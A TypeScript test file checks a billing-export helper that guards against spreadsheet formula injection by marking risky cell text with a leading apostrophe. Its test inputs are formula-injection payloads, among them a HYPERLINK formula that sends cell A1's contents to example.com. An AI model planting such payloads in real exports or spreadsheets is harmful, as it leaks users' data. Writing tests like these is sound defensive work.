import fc from 'fast-check'
import { expect, test } from 'vitest'
import { textCell } from '../../../src/billing/export/text-cell.ts'

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\rx',
  '\nx',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  ' =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '=HYPERLINK("http://example.com?x="&A1,"click")',
])('%j is marked as text', (text) => {
  expect(textCell(text)).toBe(`'${text}`)
})

test.each(['', 'Acme Inc.', "O'Neill", '1-2', 'a=b', '2026-03-01', 'key_2f6k', '日本', ' padded'])(
  '%j stays as it is',
  (text) => {
    expect(textCell(text)).toBe(text)
  },
)

test('no cell begins like a formula, whatever the text', () => {
  const start = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '＝',
    '＋',
    '－',
    '＠',
    ' ',
    'a',
    '\u00a0',
    '\u200b',
  )
  fc.assert(
    fc.property(fc.array(start, { maxLength: 4 }), fc.string({ unit: 'binary' }), (begin, rest) => {
      expect(textCell(begin.join('') + rest)).not.toMatch(/^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/)
    }),
  )
})
